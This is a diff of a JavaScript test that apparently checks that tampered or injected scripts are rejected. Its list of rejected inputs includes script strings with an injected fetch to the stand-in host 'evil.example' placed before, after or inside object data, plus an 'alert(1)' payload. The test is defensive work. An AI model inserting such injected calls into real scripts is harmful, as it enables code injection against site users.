@@ -75,7 +75,7 @@ test('B-08: a script that was changed, that has code before it, or that nobody b
     `${script};fetch("https://evil.example")`,
     `fetch("https://evil.example");${script}`,
     `kupaPage.texts["bit"]={"a":fetch("https://evil.example")};${script}`,
-    script.replace('kupaPart', 'kupaPark'),
+    script.replace('{', '{;'),
     'alert(1)',
     '',
   ];
